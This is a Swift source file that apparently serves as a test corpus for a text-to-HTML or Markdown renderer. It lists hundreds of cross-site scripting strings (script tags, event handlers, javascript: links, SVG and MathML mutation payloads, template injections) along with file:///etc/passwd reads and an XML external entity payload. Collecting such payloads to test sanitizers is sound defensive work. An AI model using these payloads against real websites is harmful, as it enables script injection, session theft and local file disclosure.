import Foundation

/// What has been used against programs that turn text into pages, one line of attack after the other.
enum Payloads {
  static let all: [String] =
    scripts + handlers + resources + namespaces + addresses + links + images + breakouts + broken + comments
    + encodings + markdown + formulas + templates

  /// All of them, in so many stretches.
  static func parts(of count: Int) -> [[String]] {
    let size = (all.count + count - 1) / count
    return stride(from: 0, to: all.count, by: size).map { Array(all[$0..<min($0 + size, all.count)]) }
  }

  /// A payload as a string of YAML.
  static func yaml(_ text: String) -> String {
    "\"" + escaped(text, quote: "\"").replacing("\u{0}", with: "\\0") + "\""
  }

  /// A payload as a string of Swift.
  static func swift(_ text: String) -> String { "\"" + escaped(text, quote: "\"") + "\"" }

  private static func escaped(_ text: String, quote: Character) -> String {
    text.replacing("\\", with: "\\\\").replacing("\"", with: "\\\"").replacing("\n", with: "\\n")
      .replacing("\t", with: "\\t").replacing("\u{0}", with: "\u{FFFD}").replacing("\u{1}", with: "\u{FFFD}")
      .replacing("\u{B}", with: " ").replacing("\u{C}", with: " ").replacing("\r", with: " ")
  }

  private static let scripts = [
    "<script>alert(1)</script>", "<SCRIPT>alert(1)</SCRIPT>", "<ScRiPt >alert(1)</sCrIpT >",
    "<script\n>alert(1)</script\n>", "<script/x>alert(1)</script>", "<script/src=data:,alert(1)>",
    "<script src=//example.org/x.js></script>", "<script type=module>alert(1)</script>",
    "<script type=\"text/javascript\">alert(1);</script>", "<script>alert(1)", "<script>alert(1)//",
    "<<script>alert(1);//<</script>", "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script\u{C}>alert(1)</script>", "<script\t>alert(1)</script>", "<script>/*<*/alert(1)</script>",
    "<script>`${alert(1)}`</script>", "<script async>alert(1)</script>", "<script defer>alert(1)</script>",
    "<script nonce=x>alert(1)</script>", "<script charset=\"\\x22>\">alert(1)</script>",
    "<noscript><script>alert(1)</script></noscript>", "<xss><script>alert(1)</script></xss>",
  ]

  private static let handlers = [
    "<img src=x onerror=alert(1)>", "<img src=x onerror=alert(1)//", "<IMG SRC=x OnErRoR=alert(1)>",
    "<img/src=x/onerror=alert(1)>", "<img src=\"x\"onerror=\"alert(1)\">", "<img src=x onerror='alert(1)'>",
    "<img src=x:x onerror=alert(1)>", "<img src onerror=alert(1)>", "<img src=`x` onerror=alert(1)>",
    "<img \n src=x\n onerror\n=\nalert(1)>", "<img src=x onerror=&#97;lert(1)>",
    "<img src=x onerror=\"&#x61;lert(1)\">", "<image src=x onerror=alert(1)>",
    "<body onload=alert(1)>", "<body onpageshow=alert(1)>", "<body onhashchange=alert(1)>",
    "<html onmousemove=alert(1)>", "<div onclick=alert(1)>x</div>", "<p onmouseover=alert(1)>x</p>",
    "<b onmouseenter=alert(1)>x</b>", "<a onclick=alert(1)>x</a>",
    "<a href=# onfocus=alert(1) autofocus>x</a>",
    "<div tabindex=1 onfocus=alert(1)>x</div>", "<input autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)>", "<textarea autofocus onfocus=alert(1)>",
    "<keygen autofocus onfocus=alert(1)>", "<video onerror=alert(1)><source>",
    "<audio src=x onerror=alert(1)>",
    "<video src=x onloadstart=alert(1)>", "<details ontoggle=alert(1) open>x</details>",
    "<details open ontoggle=alert(1)>", "<details open=\"\" ontoggle=alert(1)>",
    "<details/open/ontoggle=alert(1)>",
    "<details\u{A0}open ontoggle=alert(1)>",
    "<details open onclick=alert(1)><summary onclick=alert(1)>x</summary>",
    "<summary onclick=alert(1)>x</summary>", "<marquee onstart=alert(1)>x</marquee>",
    "<style onload=alert(1)></style>", "<div style=\"animation-name:x\" onanimationstart=alert(1)>x</div>",
    "<button onclick=alert(1)>x</button>", "<form onsubmit=alert(1)><input type=submit></form>",
    "<table background=javascript:alert(1)>", "<td onmouseover=alert(1)>x</td>",
    "<dialog open onclose=alert(1)>x</dialog>",
    "<x onclick=alert(1)>x</x>", "<custom-element onclick=alert(1)>x</custom-element>",
  ]

  private static let resources = [
    "<iframe src=javascript:alert(1)></iframe>", "<iframe src=\"data:text/html,<script>alert(1)</script>\">",
    "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
    "<iframe srcdoc='&lt;img src=x onerror=alert(1)&gt;'>",
    "<iframe onload=alert(1)>", "<frameset onload=alert(1)><frame src=javascript:alert(1)></frameset>",
    "<object data=javascript:alert(1)>",
    "<object data=data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==>",
    "<embed src=javascript:alert(1)>", "<embed src=data:image/svg+xml;base64,PHN2Zz4=>", "<applet code=x>",
    "<link rel=stylesheet href=http://example.org/x.css>", "<link rel=import href=data:text/html,x>",
    "<link rel=preload as=script href=//example.org/x.js>", "<link rel=prefetch href=//example.org/x>",
    "<base href=javascript:/a/+alert(1)//>", "<base href=//example.org/>",
    "<meta http-equiv=refresh content=\"0;url=javascript:alert(1)\">",
    "<meta http-equiv=refresh content=\"0;url=http://example.org\">",
    "<meta http-equiv=Content-Security-Policy content=\"script-src *\">",
    "<style>@import 'http://example.org/x.css';</style>",
    "<style>body{background:url(http://example.org/x)}</style>",
    "<style>li{list-style-image:url(javascript:alert(1))}</style>",
    "<p style=\"background:url(http://example.org/x)\">x</p>",
    "<p style=\"width:expression(alert(1))\">x</p>",
    "<p style=\"behavior:url(#default#time2)\" onbegin=alert(1)>x</p>",
    "<form action=javascript:alert(1)><input type=submit>",
    "<form id=x></form><button form=x formaction=javascript:alert(1)>x</button>",
    "<isindex action=javascript:alert(1)>", "<input type=image src=x onerror=alert(1)>",
    "<video poster=javascript:alert(1)></video>", "<source srcset=x onerror=alert(1)>",
    "<picture><source srcset=http://example.org/x><img></picture>", "<img srcset=http://example.org/x>",
    "<portal src=javascript:alert(1)>", "<bgsound src=javascript:alert(1)>",
    "<layer src=http://example.org/x>",
    "<template><script>alert(1)</script></template>", "<slot onslotchange=alert(1)>",
    "<img src=http://example.org/x.png>", "<a ping=http://example.org/x href=#x>x</a>",
  ]

  private static let namespaces = [
    "<svg onload=alert(1)>", "<svg/onload=alert(1)>", "<svg><script>alert(1)</script></svg>",
    "<svg><script href=data:,alert(1) />",
    "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>", "<svg><set onbegin=alert(1) attributeName=x>",
    "<svg><a><animate attributeName=href values=javascript:alert(1) /><text>x</text></a></svg>",
    "<svg><use href=\"data:image/svg+xml,<svg id=x onload=alert(1)>#x\"/></svg>",
    "<svg><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>", "<svg><image href=http://example.org/x></svg>",
    "<svg><desc><![CDATA[</desc><script>alert(1)</script>]]></svg>",
    "<svg><title><script>alert(1)</script></title></svg>",
    "<math href=javascript:alert(1)>x</math>", "<math><mtext></p><img src=x onerror=alert(1)></math>",
    "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>x</maction></math>",
    "<math><annotation-xml encoding=text/html><img src=x onerror=alert(1)></annotation-xml></math>",
    "<math><mglyph><style><img src=x onerror=alert(1)></style></mglyph></math>",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=x onerror=alert(1)&gt;\">",
    "<svg></p><style><a id=\"</style><img src=x onerror=alert(1)>\">",
    "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=alert(1)>",
  ]

  private static let addresses = [
    "<a href=javascript:alert(1)>x</a>", "<a href=\"JaVaScRiPt:alert(1)\">x</a>",
    "<a href=\" javascript:alert(1)\">x</a>",
    "<a href=\"java\nscript:alert(1)\">x</a>", "<a href=\"java\tscript:alert(1)\">x</a>",
    "<a href=\"&#106;avascript:alert(1)\">x</a>", "<a href=\"javascript&colon;alert(1)\">x</a>",
    "<a href=vbscript:alert(1)>x</a>", "<a href=\"data:text/html,<script>alert(1)</script>\">x</a>",
    "<a href=\"\u{1}javascript:alert(1)\">x</a>", "<a href=javascript&#58;alert(1)>x</a>",
    "<area href=javascript:alert(1)>",
  ]

  private static let links = [
    "[x](javascript:alert(1))", "[x](JaVaScRiPt:alert(1))", "[x]( javascript:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](<java\tscript:alert(1)>)", "[x](&#106;avascript:alert(1))", "[x](&#x6A;avascript:alert(1))",
    "[x](java&Tab;script:alert(1))", "[x](java&NewLine;script:alert(1))", "[x](javascript&colon;alert(1))",
    "[x](&#1;javascript:alert(1))", "[x](\\javascript:alert(1))", "[x](javascript\\:alert(1))",
    "[x](javascript:alert`1`)", "[x](javascript://example.org/%0aalert(1))", "[x](vbscript:msgbox(1))",
    "[x](data:text/html,alert(1))", "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](DATA:text/html,alert(1))", "[x](file:///etc/passwd)", "[x](blob:null/alert(1))", "[x](filesystem:x)",
    "[x](view-source:javascript:alert(1))", "[x](feed:javascript:alert(1))", "[x](jar:javascript:alert(1)!/)",
    "[x](x \"\\\" onclick=alert(1)\")", "[x](x '\" onmouseover=\"alert(1)')",
    "[x](http://x\"onmouseover=alert(1))",
    "[x](http://example.org/\"><script>alert(1)</script>)", "[x][y]\n\n[y]: javascript:alert(1)",
    "[z1]: javascript:alert(1)\n\n[z1]", "[z2]: <javascript:alert(1)> \"x\"\n\n[z2]",
    "[<img src=x onerror=alert(1)>](#x)", "[x](#\"onclick=\"alert(1))",
    "<javascript:alert(1)>", "<JAVASCRIPT:alert(1)>", "<data:text/html,alert(1)>", "<vbscript:alert(1)>",
    "<http://x\"onmouseover=alert(1)>", "<mailto:x@y.z?\"onclick=alert(1)>", "<x@y.z\"onclick=alert(1)>",
    "[x](//example.org)", "[x](\u{B}javascript:alert(1))", "[x](%6Aavascript:alert(1))",
    "[x](javas\u{0}cript:alert(1))",
  ]

  private static let images = [
    "![x](javascript:alert(1))", "![x](http://example.org/x.png)", "![x](//example.org/x.png)",
    "![x](data:image/svg+xml,<svg/onload=alert(1)>)", "![x](data:text/html,alert(1))",
    "![x](\" onerror=\"alert(1))",
    "![\" onerror=\"alert(1)](x)", "![<img src=x onerror=alert(1)>](x)", "![x](x \"\\\" onerror=alert(1)\")",
    "![x](/etc/passwd)", "![x](../../../../etc/passwd)", "![x](file:///etc/passwd)",
    "[![x](x)](javascript:alert(1))",
  ]

  private static let breakouts = [
    "\"><script>alert(1)</script>", "'><script>alert(1)</script>", "\" onclick=alert(1) x=\"",
    "' onclick=alert(1) x='",
    "` onclick=alert(1) x=`", "\"/><svg/onload=alert(1)>", "</title><script>alert(1)</script>",
    "</style><script>alert(1)</script>", "</script><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</noscript><script>alert(1)</script>", "</pre></code><img src=x onerror=alert(1)>",
    "</td></table><img src=x onerror=alert(1)>",
    "</svg><img src=x onerror=alert(1)>", "</details></main></body><script>alert(1)</script>",
    "</li></ul><script>alert(1)</script>",
    "]]><script>alert(1)</script>", "*/alert(1)/*", "';alert(1)//", "\\\";alert(1)//", "\";alert(1);\"",
    "</figure></summary><img src=x onerror=alert(1)>",
  ]

  private static let broken = [
    "<img src=x onerror=alert(1)", "<a href=\"javascript:alert(1)", "<div onclick=\"alert(1)",
    "<img src=\"x` `<script>alert(1)</script>\"` `>",
    "<<img src=x onerror=alert(1)>", "< img src=x onerror=alert(1)>", "<\u{0}img src=x onerror=alert(1)>",
    "<scr\u{0}ipt>alert(1)</scr\u{0}ipt>", "<img\u{B}src=x onerror=alert(1)>",
    "<img src=x \u{0}onerror=alert(1)>",
    "</ script>alert(1)", "<a<b onclick=alert(1)>", "<!<script>alert(1)</script>",
    "<?xml version=\"1.0\"?><script>alert(1)</script>",
    "<%<!--'%><script>alert(1);</script -->", "<! foo=\"><script>alert(1)</script>\">",
    "<!DOCTYPE x [<!ENTITY y SYSTEM 'file:///etc/passwd'>]>&y;",
    "<plaintext>alert(1)", "<xmp><script>alert(1)</script></xmp>",
    "<listing>&ltimg src=x onerror=alert(1)&gt</listing>",
  ]

  private static let comments = [
    "<!--><script>alert(1)</script>-->", "<!---><script>alert(1)</script>",
    "<!-- --!><script>alert(1)</script>", "--><script>alert(1)</script>",
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->", "<![CDATA[<script>alert(1)</script>]]>",
    "<!--<img src=\"--><img src=x onerror=alert(1)//\">",
    "1<!--= \" onclick=\"alert(1) -->", "1<!--= x --><script>alert(1)</script>",
    "<!-- /nabla:output --><script>alert(1)</script>",
  ]

  private static let encodings = [
    "&lt;script&gt;alert(1)&lt;/script&gt;", "&#60;script&#62;alert(1)&#60;/script&#62;",
    "&#x3C;script&#x3E;alert(1)",
    "&amp;lt;script&amp;gt;alert(1)", "%3Cscript%3Ealert(1)%3C/script%3E",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "\\x3cscript\\x3ealert(1)", "+ADw-script+AD4-alert(1)+ADw-/script+AD4-", "＜script＞alert(1)＜/script＞",
    "‹script›alert(1)‹/script›",
    "\u{FEFF}<script>alert(1)</script>", "\u{202E}<script>alert(1)</script>",
    "\u{2028}<script>alert(1)</script>", "<scrıpt>alert(1)</scrıpt>",
  ]

  private static let markdown = [
    "`<script>alert(1)</script>`", "```html\" onclick=\"alert(1)\n<script>alert(1)</script>\n```",
    "~~~\"><img src=x onerror=alert(1)>\nx\n~~~",
    "# <script>alert(1)</script>", "# x {onclick=alert(1)}",
    "| <script>alert(1)</script> |\n|---|\n| <img src=x onerror=alert(1)> |",
    "> <script>\n> alert(1)", "**<script>alert(1)</script>**", "<b>*<script>alert(1)</script>*</b>",
    "[x]{onclick=alert(1)}",
    "<div>\n\n[x](javascript:alert(1))\n\n</div>",
    "<details><summary>[x](javascript:alert(1))</summary></details>",
  ]

  private static let formulas = [
    "$<script>alert(1)</script>$", "$\\href{javascript:alert(1)}{x}$", "$\\url{javascript:alert(1)}$",
    "$\\htmlStyle{background:url(http://example.org)}{x}$",
    "$\\htmlData{onclick=alert(1)}{x}$", "$\\includegraphics{http://example.org/x.png}$",
    "$\\text{<img src=x onerror=alert(1)>}$", "$$\\unicode{<script>alert(1)</script>}$$",
    "$\\color{\"onclick=alert(1)}{x}$", "$\\def\\x{<script>}\\x alert(1)$",
  ]

  private static let templates = [
    "{{{style}}}", "{{#contents}}alert(1){{/contents}}", "{{>lesson}}", "{{=<% %>=}}<%script%>alert(1)",
    "{{constructor.constructor('alert(1)')()}}",
    "${alert(1)}", "#{alert(1)}", "<%= alert(1) %>", "\u{E000}0\u{E001}<script>alert(1)</script>",
    "\u{E003}<img src=x onerror=alert(1)>",
  ]
}
